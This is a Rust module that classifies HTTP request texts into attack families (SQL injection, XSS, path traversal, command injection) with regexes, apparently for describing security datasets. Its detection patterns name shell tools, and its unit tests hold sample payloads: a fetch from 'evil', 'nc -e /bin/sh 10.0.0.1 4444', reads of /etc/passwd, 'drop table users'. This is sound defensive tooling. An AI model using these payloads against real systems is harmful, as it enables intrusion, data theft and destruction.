//! Cheap, rule-based features of a request text, used to describe datasets.
//!
//! A request text is already percent-decoded and looks like
//! `/top.php?stuff='uname >q36497765 #` (path + query) or
//! `GET http://localhost:8080/tienda1/publico/anadir.jsp?id=2&nombre=Jamón B1=Añadir`
//! (method, absolute target, form body).
//!
//! * [`target_script`] extracts the file a request targets (`anadir.jsp`), to see which
//!   scripts a dataset is made of and whether one class is concentrated on a few of them.
//! * [`attack_family`] sorts a text into a coarse [`AttackFamily`] with a few hand-written
//!   regular expressions. It is meant for statistics and per-family metrics, not for
//!   detection: the rules are deliberately simple, so benign texts that match one are worth
//!   a look (label noise) rather than proof of an attack.

use std::fmt;
use std::str::FromStr;
use std::sync::LazyLock;

use regex::bytes::{RegexSet, RegexSetBuilder};

/// Longest extension [`target_script`] accepts (`.properties` has 10 characters).
const MAX_EXTENSION_LEN: usize = 10;

/// Longest leading token taken for an HTTP method (`PROPPATCH`, `MKCALENDAR` fit).
const MAX_METHOD_LEN: usize = 16;

/// The file name a request targets, if its path ends in a name with an extension.
///
/// Steps, all on the borrowed input (the result is always a substring of `text`):
/// 1. skip leading whitespace and a leading HTTP method token (uppercase ASCII letters
///    followed by a space: `GET `, `POST `, ...);
/// 2. skip `scheme://host[:port]` when the target is an absolute URL (no path → `None`);
/// 3. cut the path at the first `?`, `#`, `;` (`/a.jsp;jsessionid=…` → `a.jsp`) or whitespace
///    (a space or TAB separates path and parameters in some datasets);
/// 4. take the last segment after `/` or `\` (backslashes appear in Windows traversal probes);
/// 5. keep it only if it ends in `.` + 1..=10 ASCII alphanumerics and holds none of
///    `= & < > " '` or control characters (those are parameters or payloads, not file names).
///
/// Dot files such as `.htaccess` or `.env` are kept on purpose: probes for them are typical
/// of scanners, so they are worth counting as targets. Names made of dots only (`..`) and
/// names ending in a dot are rejected.
///
/// ```
/// use vigie_data::features::target_script;
/// assert_eq!(target_script("/top.php?stuff=x"), Some("top.php"));
/// assert_eq!(target_script("/103886/"), None);
/// assert_eq!(
///     target_script("GET http://localhost:8080/tienda1/publico/anadir.jsp?id=2"),
///     Some("anadir.jsp")
/// );
/// ```
pub fn target_script(text: &str) -> Option<&str> {
    let mut rest = skip_method(text.trim_start());
    rest = skip_scheme_and_host(rest)?;

    let path_end = rest
        .find(|c: char| matches!(c, '?' | '#' | ';') || c.is_whitespace())
        .unwrap_or(rest.len());
    let path = &rest[..path_end];
    let name = match path.rfind(['/', '\\']) {
        Some(slash) => &path[slash + 1..],
        None => path,
    };
    is_file_name_with_extension(name).then_some(name)
}

/// Drops a leading `METHOD ` token; returns the input unchanged when there is none.
fn skip_method(text: &str) -> &str {
    let Some(space) = text.find(' ') else {
        return text;
    };
    let method = &text[..space];
    let is_method = (1..=MAX_METHOD_LEN).contains(&method.len())
        && method.bytes().all(|b| b.is_ascii_uppercase());
    if is_method {
        text[space + 1..].trim_start()
    } else {
        text
    }
}

/// Drops `scheme://host[:port]` from an absolute URL, keeping the path from its `/`.
///
/// Returns `None` for an absolute URL without a path (`http://host?x=1`): it targets no file.
fn skip_scheme_and_host(text: &str) -> Option<&str> {
    let Some(colon) = text.find("://") else {
        return Some(text);
    };
    let scheme = &text.as_bytes()[..colon];
    let is_scheme = scheme.first().is_some_and(u8::is_ascii_alphabetic)
        && scheme
            .iter()
            .all(|&b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'.'));
    if !is_scheme {
        // `://` inside a parameter (`/go.php?u=http://x`): not the start of the target.
        return Some(text);
    }
    let authority = &text[colon + 3..];
    let authority_end = authority
        .find(|c: char| matches!(c, '/' | '?' | '#') || c.is_whitespace())
        .unwrap_or(authority.len());
    let after = &authority[authority_end..];
    after.starts_with('/').then_some(after)
}

/// `name` ends in `.ext` (1..=10 ASCII alphanumerics) and looks like a file name.
fn is_file_name_with_extension(name: &str) -> bool {
    let Some(dot) = name.rfind('.') else {
        return false;
    };
    let extension = &name[dot + 1..];
    let has_extension = (1..=MAX_EXTENSION_LEN).contains(&extension.len())
        && extension.bytes().all(|b| b.is_ascii_alphanumeric());
    has_extension
        && !name
            .chars()
            .any(|c| c.is_control() || matches!(c, '=' | '&' | '<' | '>' | '"' | '\''))
}

/// A coarse attack category, assigned by [`attack_family`].
#[derive(
    Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, serde::Serialize, serde::Deserialize,
)]
#[serde(rename_all = "kebab-case")]
pub enum AttackFamily {
    /// SQL injection.
    Sqli,
    /// Cross-site scripting (and script injection in general).
    Xss,
    /// Path traversal and probes for well-known sensitive files.
    PathTraversal,
    /// OS command injection.
    Cmdi,
    /// No rule matched: scanners, fuzzing, benign traffic, ...
    Other,
}

impl AttackFamily {
    /// Every family, in table order (`Other` last).
    pub const ALL: [AttackFamily; 5] = [
        AttackFamily::Sqli,
        AttackFamily::Xss,
        AttackFamily::PathTraversal,
        AttackFamily::Cmdi,
        AttackFamily::Other,
    ];

    /// The families [`attack_family`] tries, most specific first (see there).
    pub const PRECEDENCE: [AttackFamily; 4] = [
        AttackFamily::Xss,
        AttackFamily::Sqli,
        AttackFamily::Cmdi,
        AttackFamily::PathTraversal,
    ];

    /// The name used in tables, JSON and on the command line.
    pub fn name(self) -> &'static str {
        match self {
            AttackFamily::Sqli => "sqli",
            AttackFamily::Xss => "xss",
            AttackFamily::PathTraversal => "path-traversal",
            AttackFamily::Cmdi => "cmdi",
            AttackFamily::Other => "other",
        }
    }

    fn bit(self) -> u8 {
        1 << (self as u8)
    }
}

impl fmt::Display for AttackFamily {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.name())
    }
}

impl FromStr for AttackFamily {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let wanted = s.trim();
        AttackFamily::ALL
            .into_iter()
            .find(|family| family.name().eq_ignore_ascii_case(wanted))
            .ok_or_else(|| {
                format!(
                    "unknown attack family {wanted:?} \
                     (expected sqli, xss, path-traversal, cmdi or other)"
                )
            })
    }
}

/// The set of attack families whose rules match a text (see [`attack_families`]).
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq, Hash)]
pub struct AttackFamilies(u8);

impl AttackFamilies {
    /// Whether `family`'s rules matched (`Other` is contained when nothing matched).
    pub fn contains(self, family: AttackFamily) -> bool {
        if family == AttackFamily::Other {
            self.is_empty()
        } else {
            self.0 & family.bit() != 0
        }
    }

    /// No rule matched.
    pub fn is_empty(self) -> bool {
        self.0 == 0
    }

    /// The matched families in [`AttackFamily::ALL`] order, `Other` alone when none matched.
    pub fn iter(self) -> impl Iterator<Item = AttackFamily> {
        AttackFamily::ALL
            .into_iter()
            .filter(move |&family| self.contains(family))
    }

    /// The family [`attack_family`] reports: the first matched one in precedence order.
    pub fn primary(self) -> AttackFamily {
        AttackFamily::PRECEDENCE
            .into_iter()
            .find(|&family| self.contains(family))
            .unwrap_or(AttackFamily::Other)
    }
}

/// Command names for the command-injection rules.
///
/// Short, common words (`type`, `dir`, `more`, `find`) are left out: after a `|` or `;` in a
/// query string they are more often parameter values than commands.
const COMMANDS: &str = concat!(
    r"(?:cat|ls|id|uname|whoami|wget|curl|nc|ncat|netcat|bash|sh|zsh|ksh|ping|echo|rm|chmod",
    r"|perl|python[23]?|php|ruby|cmd(?:\.exe)?|powershell(?:\.exe)?|ifconfig|ipconfig|netstat",
    r"|nslookup|telnet|tftp|sleep|busybox|systeminfo|tasklist|hostname|nohup)",
);

/// Event-handler attributes (`onerror=`); a closed list because `\bon\w+=` would also match
/// ordinary parameters such as `online=1` or `only=true`.
const EVENT_HANDLERS: &str = concat!(
    r"on(?:error|load|unload|beforeunload|click|dblclick|mouse\w*|pointer\w*|key\w*|focus\w*",
    r"|blur|change|input|submit|reset|select|abort|resize|scroll|wheel|drag\w*|drop|copy|cut",
    r"|paste|contextmenu|toggle|begin|end|start|finish|animation\w*|transition\w*|play\w*",
    r"|pause|message|hashchange|popstate|pageshow|pagehide|readystatechange|invalid|show",
    r"|search|touch\w*|auxclick|loadstart)",
);

/// The rules of one family. In the patterns, `~` stands for one whitespace character or a `+`
/// (a form-encoded space), `{ON}` for [`EVENT_HANDLERS`] and `{CMD}` for [`COMMANDS`].
fn family_rules(family: AttackFamily) -> Vec<String> {
    let rules: &[&str] = match family {
        AttackFamily::Sqli => &[
            r"\bunion(?:~|/\*.{0,40}?\*/)+(?:all(?:~|/\*.{0,40}?\*/)+|distinct(?:~|/\*.{0,40}?\*/)+)?\(?select\b",
            // Tautologies: `' or '1'='1`, `" or ""="`, `' and 1=2`.
            r#"['"]\)*~*(?:(?:or|and|xor)\b|\|\||&&)~*\(*['"]?\w*['"]?~*(?:=|<|>|\blike\b)"#,
            r"\b(?:or|and)~+\(*\d+\)*~*(?:=|<|>)~*\(*\d+",
            // Quote (and closing parentheses) then a comment: `admin' --`, `1')#`. A `#` must
            // end the text or be followed by a space, so that `color='#fff'` stays benign.
            r#"['"]~*\)*~*;?~*(?:--|#(?:$|[\s+])|/\*)"#,
            r"/\*!?\d*~*(?:select|union|from|where|and|or|insert|update|delete|drop|concat)\b",
            r"\b(?:select|union|from|where|and|or|insert|update|delete|drop)~*/\*",
            r"\b(?:sleep|benchmark|pg_sleep|load_file|extractvalue|updatexml|name_const)~*\(",
            r"\bwaitfor~+(?:delay|time)\b",
            r"\binformation_schema\b|\bsysobjects\b|\bsyscolumns\b|\bmysql\.user\b|@@(?:version|datadir|hostname|servername)\b",
            r#"['"].*\b(?:char|chr|concat|concat_ws|group_concat)~*\(|\b(?:char|chr|concat|concat_ws|group_concat)~*\(.*['"]"#,
            r"\bselect\b(?:~|\(|\*|/\*.{0,40}?\*/)[^\n]{0,100}?(?:~|\)|\*|\*/|['`])from\b",
            r"\bdrop~+(?:table|database)\b|\binsert~+into\b|\bdelete~+from\b|\bupdate~+\w+~+set\b",
            r"\border~+by~+\d|\bgroup~+by~+\d.{0,20}having\b|\bhaving~+\d+~*=",
            r"\bxp_cmdshell\b|\bexec(?:ute)?~+(?:master\.|xp_|sp_)|\binto~+(?:out|dump)file\b|\bdbms_pipe\b|\butl_inaddr\b",
        ],
        AttackFamily::Xss => &[
            r"<~*/?~*(?:script|iframe|svg|object|embed|applet|frameset|marquee|xss)\b",
            r"\b(?:javascript|vbscript|livescript)~*:|\bdata~*:~*text/html",
            r#"(?:^|[\s/"'+;]){ON}~*="#,
            r"<~*(?:img|image|body|video|audio|input|details|link|style|meta|frame|math|base|form|isindex|a|div|table|td|button|select|textarea|keygen|source)\b[^>]*?[\s/+]\w+~*=",
            r"\b(?:alert|prompt|confirm|eval)~*(?:\(|`)",
            r"\bdocument~*\.~*(?:cookie|write|location|domain)\b|\bwindow~*\.~*location\b|\bstring~*\.~*fromcharcode\b",
            r"\bexpression~*\(|\bsrcdoc~*=|\bformaction~*=",
        ],
        AttackFamily::PathTraversal => &[
            r"\.\.[/\\]|[/\\]\.\.(?:$|[/\\?#\s])",
            // Encoded dots or slashes left over after one decoding pass.
            r"%2e%2e|\.%2e|%2e\.|%c0%ae|%252e|\.\.%2f|\.\.%5c|%c0%af|%c1%9c|%c1%1c|%255c|%252f",
            r"/etc/(?:passwd|shadow|group|hosts|issue|master\.passwd)\b|/proc/self/|/proc/version\b",
            r"\b(?:win|boot|system)\.ini\b|\bc:[/\\]windows\b|\bweb-inf[/\\]web\.xml\b",
            // A null byte after an extension truncates the path in old runtimes.
            r"\.[a-z0-9]{1,10}(?:\x00|%00)",
        ],
        AttackFamily::Cmdi => &[
            r#"(?:[;|`\n]|&&|\$\()~*{CMD}(?:$|[\s;|&<>`)'"+])"#,
            // `'uname >q36497765 #`, `"id"`: a quoted command or a command with a redirection.
            r#"['"]~*{CMD}~*(?:$|[><;|&`'"])"#,
            r#"(?:^|[\s'"=+]){CMD}~*>{1,2}~*[\w/.$-]"#,
            r"/bin/(?:ba|z|k|c|da)?sh\b|\$\{ifs\}|\$ifs\b|\bcmd\.exe\b|\bcmd~+/c\b|\bpowershell\b",
            r"\bnc(?:at)?~+-[elvnp]|\b(?:system|passthru|shell_exec|popen|proc_open)~*\(",
        ],
        AttackFamily::Other => &[],
    };
    rules
        .iter()
        .map(|rule| {
            rule.replace("{ON}", EVENT_HANDLERS)
                .replace("{CMD}", COMMANDS)
                .replace('~', r"[\s+]")
        })
        .collect()
}

/// All rules in one set, with the family of each pattern (same order).
struct Rules {
    set: RegexSet,
    families: Vec<AttackFamily>,
}

static RULES: LazyLock<Rules> = LazyLock::new(|| {
    let mut patterns = Vec::new();
    let mut families = Vec::new();
    for family in AttackFamily::PRECEDENCE {
        for pattern in family_rules(family) {
            patterns.push(pattern);
            families.push(family);
        }
    }
    // Byte-oriented and ASCII-only: the keywords are ASCII, and the ASCII engine is
    // smaller and faster than the Unicode one. The patterns are constants covered by
    // the tests, so a failure here is a programming error, not an input error.
    #[allow(clippy::expect_used)]
    let set = RegexSetBuilder::new(&patterns)
        .case_insensitive(true)
        .unicode(false)
        .dot_matches_new_line(true)
        .build()
        .expect("attack family rules are valid regular expressions");
    Rules { set, families }
});

/// Every attack family whose rules match `text` (empty when none does).
pub fn attack_families(text: &str) -> AttackFamilies {
    let rules = &*RULES;
    let mut found = AttackFamilies::default();
    for index in rules.set.matches(text.as_bytes()).iter() {
        if let Some(family) = rules.families.get(index) {
            found.0 |= family.bit();
        }
    }
    found
}

/// The attack family of a request text, by case-insensitive rules.
///
/// When rules of several families match, the first in [`AttackFamily::PRECEDENCE`] wins:
/// **XSS, then SQLi, then command injection, then path traversal**, else `Other`.
/// XSS markers (`<script`, `onerror=`, `javascript:`) are the most specific; some SQL rules
/// (a quote followed by `#`) also fire on HTML fragments. Command injection comes before path
/// traversal because injected commands often read sensitive files (`;cat /etc/passwd`).
///
/// Rules, roughly: SQLi: `union … select`, tautologies (`' or '1'='1`, `or 1=1`), a quote
/// followed by a comment, SQL keywords next to `/*…*/`, `sleep(`, `benchmark(`,
/// `waitfor delay`, `information_schema`, `@@version`, `char(`/`concat(` with quotes,
/// `select … from`, `drop table`, `insert into`, `order by N`, `xp_cmdshell`. XSS: `<script`,
/// `javascript:`, event handlers (`onerror=`), tags with attributes (`<img src=`), `alert(`,
/// `prompt(`, `eval(`, `document.cookie`, `String.fromCharCode`, `expression(`. Path traversal:
/// `../`, `..\`, leftover encoded dots, `/etc/passwd`, `/etc/shadow`, `win.ini`, `boot.ini`,
/// `/proc/self/`, `WEB-INF/web.xml`, a null byte after an extension. Command injection: `;`,
/// `|`, `&&`, a backtick, `$(` or a quote followed by a common command (`cat`, `id`, `uname`,
/// `wget`, ...), a command with a redirection, `/bin/sh`, `${IFS}`, `cmd /c`, `powershell`.
/// `+` counts as a space everywhere (form-encoded query strings).
pub fn attack_family(text: &str) -> AttackFamily {
    attack_families(text).primary()
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[test]
    fn target_script_examples() {
        let cases = [
            ("/top.php?stuff='uname >q36497765 #", Some("top.php")),
            ("/103886/", None),
            ("/javascript/nets.png", Some("nets.png")),
            (
                "GET http://localhost:8080/tienda1/publico/anadir.jsp?id=2&nombre=Jamón B1=Añadir",
                Some("anadir.jsp"),
            ),
            (
                "/hr3/personnel/lzh/lzhdisciplineedit.aspx\trecid=1''",
                Some("lzhdisciplineedit.aspx"),
            ),
            (
                "POST http://localhost:8080/tienda1/publico/autenticar.jsp modo=entrar&login=x",
                Some("autenticar.jsp"),
            ),
            ("/a.jsp;jsessionid=ABC.DEF", Some("a.jsp")),
            ("/cn/scripts/common.js?tcdsp", Some("common.js")),
            ("/.htaccess", Some(".htaccess")),
            ("/app/.env", Some(".env")),
            ("/..", None),
            ("/file.", None),
            ("/archive.tar.gz", Some("archive.tar.gz")),
            ("/x.verylongextension", None),
            ("index.html", Some("index.html")),
            ("", None),
            ("GET", None),
            ("GET ", None),
            ("http://host", None),
            ("http://host:8080?x=a.php", None),
            ("http://host:8080/", None),
            ("https://host/a/b.cgi#frag", Some("b.cgi")),
            ("/go.php?u=http://evil/x.js", Some("go.php")),
            (
                "/scripts/..\\..\\winnt/system32/cmd.exe?/c+dir",
                Some("cmd.exe"),
            ),
            ("id=2&name=a.b", None),
            ("/<script>.js", None),
            ("  GET /index.html HTTP/1.1", Some("index.html")),
        ];
        for (text, expected) in cases {
            assert_eq!(target_script(text), expected, "{text:?}");
        }
    }

    #[test]
    fn family_names_serde_and_parse() {
        for family in AttackFamily::ALL {
            let json = serde_json::to_string(&family).unwrap();
            assert_eq!(json, format!("\"{}\"", family.name()));
            assert_eq!(serde_json::from_str::<AttackFamily>(&json).unwrap(), family);
            assert_eq!(family.name().parse::<AttackFamily>(), Ok(family));
            assert_eq!(family.to_string(), family.name());
        }
        assert_eq!(AttackFamily::PathTraversal.name(), "path-traversal");
        assert!("rce".parse::<AttackFamily>().is_err());
    }

    fn assert_family(family: AttackFamily, texts: &[&str]) {
        for text in texts {
            assert_eq!(attack_family(text), family, "{text:?}");
        }
    }

    #[test]
    fn sqli_payloads() {
        assert_family(
            AttackFamily::Sqli,
            &[
                "/index.php?id=1 union select 1,2,3",
                "/index.php?id=1+UNION+ALL+SELECT+null,version()--",
                "/item.php?id=-1/**/union/**/select/**/1,2",
                "/login.php?user=admin' or '1'='1&pass=x",
                "/login.php?user=\" or \"\"=\"",
                "/p.php?id=1 or 1=1",
                "/p.php?id=1' and 1=2 --",
                "/p.php?user=admin' --",
                "/p.php?user=admin')#",
                "/p.php?id=1/*!50000select*/ 1",
                "/p.php?id=1 and sleep(5)",
                "/p.php?id=1;select benchmark(1000000,md5(1))",
                "/p.php?id=1; waitfor delay '0:0:5'",
                "/p.php?id=1 and 1 in (select table_name from information_schema.tables)",
                "/p.php?id=@@version",
                "/p.php?id=concat('a',0x3a)",
                "/p.php?q=char(113)+'x'",
                "/p.php?q=1;drop table users",
                "/p.php?q=1; insert into users values(1)",
                "/p.php?id=1 order by 5",
                "/p.php?id=1;exec master..xp_cmdshell 'ping 127.0.0.1'",
                "POST http://localhost:8080/tienda1/publico/autenticar.jsp modo=entrar&login=bob'; DROP TABLE usuarios; SELECT * FROM datos WHERE nombre LIKE '%&pwd=x",
            ],
        );
    }

    #[test]
    fn xss_payloads() {
        assert_family(
            AttackFamily::Xss,
            &[
                "/search.php?q=<script>alert(1)</script>",
                "/search.php?q=\"><ScRiPt>alert(document.cookie)</ScRiPt>",
                "/a.php?u=javascript:alert(1)",
                "/a.php?q=<img src=x onerror=alert(1)>",
                "/a.php?q=<svg/onload=prompt(1)>",
                "/a.php?q=<iframe src=//evil>",
                "/a.php?q=<body background=x>",
                "/a.php?q=\" onmouseover=\"x()",
                "/a.php?q=';eval(String.fromCharCode(97,108))//",
                "/a.php?q=x:expression(alert(1))",
                "/a.php?q=<a href='#' onclick=x>",
                "GET http://localhost:8080/tienda1/publico/anadir.jsp?id=2&nombre=<SCRIPT>alert(\"Paros\");</SCRIPT>&B1=Añadir",
            ],
        );
    }

    #[test]
    fn path_traversal_payloads() {
        assert_family(
            AttackFamily::PathTraversal,
            &[
                "/download.php?file=../../../../etc/passwd",
                "/download.php?file=..\\..\\boot.ini",
                "/x.php?f=%2e%2e/%2e%2e/secret",
                "/x.php?f=/etc/shadow",
                "/x.php?f=c:/windows/win.ini",
                "/x.php?f=/proc/self/environ",
                "/x.jsp?f=WEB-INF/web.xml",
                "/x.php?f=config.php\0.jpg",
                "/x.php?f=config.php%00",
                "/a/b/..",
            ],
        );
    }

    #[test]
    fn cmdi_payloads() {
        assert_family(
            AttackFamily::Cmdi,
            &[
                "/top.php?stuff='uname >q36497765 #",
                "/ping.php?ip=127.0.0.1;cat /etc/passwd",
                "/ping.php?ip=127.0.0.1|id",
                "/ping.php?ip=127.0.0.1 && whoami",
                "/ping.php?ip=`wget http://evil/x.sh`",
                "/ping.php?ip=$(curl evil)",
                "/ping.php?ip=;+ls+-la",
                "/cgi-bin/test.cgi?x=() { :; }; /bin/bash -c 'id'",
                "/x.php?c=cat${IFS}/etc/passwd",
                "/x.php?c=nc -e /bin/sh 10.0.0.1 4444",
                "/x.php?c=system('id')",
                "/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir",
            ],
        );
    }

    #[test]
    fn benign_texts_stay_other() {
        assert_family(
            AttackFamily::Other,
            &[
                "/index.php?page=about&lang=en",
                "/javascript/nets.png",
                "/cn/scripts/common.js?tcdsp",
                "/103886/",
                "GET http://localhost:8080/tienda1/publico/anadir.jsp?id=3&nombre=Vino Rioja&precio=100&cantidad=55&B1=Añadir al carrito",
                "POST http://localhost:8080/tienda1/publico/registro.jsp modo=registro&login=ortega&password=qu1n13l4&nombre=Rosa&apellidos=Del Campo Ortega&email=rosa@example.es&dni=12345678Z&direccion=Calle Mayor 3, 5 B&ciudad=Toledo&cp=45001&provincia=Toledo&ntc=1234567812345678&B1=Registrar",
                "/a.jsp;jsessionid=ABC123?id=5",
                "/products/select.php?from=2010&to=2012",
                "/status?online=1&only=true&one=2",
                "/list?fields=name|title&sort=id",
                "/api/items?order=desc&by=price",
                "/blog/2019/05/cat-pictures.html",
                "/search?q=union+station+hours",
                "/search?q=tom's+diner",
                "/style.php?color='#fff'&bg=\"#000\"",
                "/img/logo.svg",
                "/docs/java/lang/String.html",
                "",
            ],
        );
    }

    #[test]
    fn families_set_reports_every_match() {
        let families = attack_families("/x.php?f=../../etc/passwd;cat /etc/passwd");
        assert!(families.contains(AttackFamily::PathTraversal));
        assert!(families.contains(AttackFamily::Cmdi));
        assert!(!families.contains(AttackFamily::Other));
        assert_eq!(families.primary(), AttackFamily::Cmdi);
        assert_eq!(
            families.iter().collect::<Vec<_>>(),
            [AttackFamily::PathTraversal, AttackFamily::Cmdi]
        );

        let none = attack_families("/index.html");
        assert!(none.is_empty());
        assert_eq!(none.iter().collect::<Vec<_>>(), [AttackFamily::Other]);
        assert_eq!(none.primary(), AttackFamily::Other);
    }

    #[test]
    fn long_texts_are_handled() {
        let long = format!("/a.php?q={}", "x".repeat(200_000));
        assert_eq!(attack_family(&long), AttackFamily::Other);
        assert_eq!(target_script(&long), Some("a.php"));
    }

    proptest! {
        #[test]
        fn never_panics_and_script_is_a_substring(text in any::<String>()) {
            let _ = attack_family(&text);
            let _ = attack_families(&text).iter().count();
            if let Some(script) = target_script(&text) {
                let start = script.as_ptr() as usize - text.as_ptr() as usize;
                prop_assert!(start + script.len() <= text.len());
                prop_assert_eq!(&text[start..start + script.len()], script);
            }
        }

        #[test]
        fn url_like_texts(text in r"(GET |POST )?(http://[a-z]{1,5}(:[0-9]{1,4})?)?(/[a-z.;\t ?#=&'<>-]{0,8}){0,4}") {
            let _ = attack_family(&text);
            if let Some(script) = target_script(&text) {
                prop_assert!(text.contains(script));
                prop_assert!(script.contains('.'));
            }
        }
    }
}
